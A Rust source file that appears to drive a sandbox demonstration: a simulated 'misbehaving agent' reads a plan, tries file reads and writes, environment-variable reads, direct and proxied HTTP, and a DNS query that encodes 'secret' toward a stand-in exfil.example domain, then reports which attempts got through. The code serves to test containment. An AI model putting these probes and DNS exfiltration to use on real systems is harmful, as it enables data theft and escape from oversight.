//! The misbehaving agent: one small function per attempt, the same outside and inside.

use std::fs;
use std::io::{self, Read, Write};
use std::net::{TcpStream, ToSocketAddrs, UdpSocket};
use std::path::Path;
use std::process::ExitCode;
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::failure::Failure;

/// No attempt may hang the demo.
const PATIENCE: Duration = Duration::from_secs(5);

/// One thing to try.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Attempt {
    what: String,
    kind: Kind,
    permitted: bool,
}

#[derive(Debug, Serialize, Deserialize)]
enum Kind {
    Read(String),
    Variable(String),
    Write(String),
    Http { address: String, host: String },
    Proxy { address: String, host: String },
    Dns(String),
}

/// What became of it.
#[derive(Debug, Serialize, Deserialize)]
pub(crate) struct Finding {
    pub(crate) what: String,
    pub(crate) permitted: bool,
    pub(crate) outcome: Outcome,
    pub(crate) detail: String,
}

/// Whether the attempt got what it wanted.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) enum Outcome {
    Succeeded,
    Failed,
}

impl Attempt {
    pub(crate) fn read(what: &str, path: String) -> Self {
        Self::new(what, Kind::Read(path))
    }

    pub(crate) fn variable(what: &str, name: &str) -> Self {
        Self::new(what, Kind::Variable(name.into()))
    }

    pub(crate) fn write(what: &str, path: String) -> Self {
        Self::new(what, Kind::Write(path))
    }

    pub(crate) fn http(what: &str, address: String, host: &str) -> Self {
        Self::new(
            what,
            Kind::Http {
                address,
                host: host.into(),
            },
        )
    }

    pub(crate) fn proxy(what: &str, address: String, host: &str) -> Self {
        Self::new(
            what,
            Kind::Proxy {
                address,
                host: host.into(),
            },
        )
    }

    pub(crate) fn dns(what: &str, server: String) -> Self {
        Self::new(what, Kind::Dns(server))
    }

    /// Marks what the policy allows.
    pub(crate) fn permitted(self) -> Self {
        Self {
            permitted: true,
            ..self
        }
    }

    fn new(what: &str, kind: Kind) -> Self {
        Self {
            what: what.into(),
            kind,
            permitted: false,
        }
    }
}

/// Tries everything in the plan and prints the findings as JSON.
pub(crate) fn run(plan: &Path) -> Result<ExitCode, Failure> {
    let read = fs::read(plan)
        .and_then(|text| serde_json::from_slice::<Vec<Attempt>>(&text).map_err(io::Error::other));
    let attempts = read.map_err(|error| Failure::new(format!("read the demo's plan: {error}")))?;
    let findings: Vec<Finding> = attempts.into_iter().map(try_it).collect();
    println!("{}", serde_json::to_string(&findings)?);
    Ok(ExitCode::SUCCESS)
}

fn try_it(attempt: Attempt) -> Finding {
    let result = match &attempt.kind {
        Kind::Read(path) => fs::read(path).map(|bytes| format!("read {} bytes", bytes.len())),
        Kind::Variable(name) => std::env::var(name)
            .map(|value| format!("got {} bytes", value.len()))
            .map_err(|_| io::Error::other("not set")),
        Kind::Write(path) => fs::write(path, "planted by the demo\n").map(|()| "written".into()),
        Kind::Http { address, host } => get(address, host, "/"),
        Kind::Proxy { address, host } => through_proxy(address, host),
        Kind::Dns(server) => ask(server),
    };
    let (outcome, detail) = match result {
        Ok(detail) => (Outcome::Succeeded, detail),
        Err(error) => (Outcome::Failed, short(&error)),
    };
    Finding {
        what: attempt.what,
        permitted: attempt.permitted,
        outcome,
        detail,
    }
}

/// A request written by hand, so that no proxy variable can play a part.
fn get(address: &str, host: &str, target: &str) -> io::Result<String> {
    let to = address
        .to_socket_addrs()?
        .next()
        .ok_or_else(|| io::Error::other("no address"))?;
    let mut stream = TcpStream::connect_timeout(&to, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    write!(
        stream,
        "GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    )?;
    let mut answer = Vec::new();
    // A gate that cuts the connection may leave a reset behind its answer.
    let _ = stream.take(64 * 1024).read_to_end(&mut answer);
    let first = answer.split(|b| *b == b'\r').next().unwrap_or_default();
    let line = String::from_utf8_lossy(first).into_owned();
    match line.split(' ').nth(1) {
        Some("200") => Ok(line.trim_start_matches("HTTP/1.1 ").to_owned()),
        Some(_) => Err(io::Error::other(
            line.trim_start_matches("HTTP/1.1 ").to_owned(),
        )),
        None => Err(io::Error::other("connection closed without an answer")),
    }
}

fn through_proxy(address: &str, host: &str) -> io::Result<String> {
    if address != "proxy" {
        return get(address, host, "/");
    }
    let url = std::env::var("http_proxy").map_err(|_| io::Error::other("http_proxy is not set"))?;
    get(
        url.trim_start_matches("http://"),
        host,
        &format!("http://{host}/"),
    )
}

/// Sends data out in a DNS question, as exfiltration tools do. It succeeds if a server out there answers; an answer
/// from palisade's own resolver (it answers every name from 198.18.0.0/15) means that nothing left.
fn ask(server: &str) -> io::Result<String> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(PATIENCE))?;
    let mut query = vec![0x13, 0x37, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["c2VjcmV0", "exfil", "example"] {
        query.push(label.len() as u8);
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    socket.send_to(&query, server)?;
    let mut answer = [0; 512];
    let (length, _) = socket.recv_from(&mut answer)?;
    match answer[..length] {
        [.., 198, 18 | 19, _, _] => Err(io::Error::other("answered by the gate, nothing left")),
        _ => Ok("a server answered".into()),
    }
}

/// The error in a few words: the operating system's text without its number.
fn short(error: &io::Error) -> String {
    let text = error.to_string();
    let text = text.split(" (os error").next().unwrap_or(&text);
    let mut chars = text.chars();
    chars
        .next()
        .map(|first| first.to_lowercase().chain(chars).collect())
        .unwrap_or_default()
}
